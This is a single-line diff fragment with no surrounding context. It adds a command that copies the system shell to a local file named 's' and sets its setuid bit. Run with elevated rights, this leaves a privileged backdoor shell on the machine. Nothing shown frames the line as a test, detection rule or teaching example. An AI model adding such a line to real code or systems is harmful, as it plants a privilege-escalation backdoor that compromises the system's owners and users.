@@ -1,0 +1,1 @@
+cp /bin/sh ./s && chmod u+s ./s
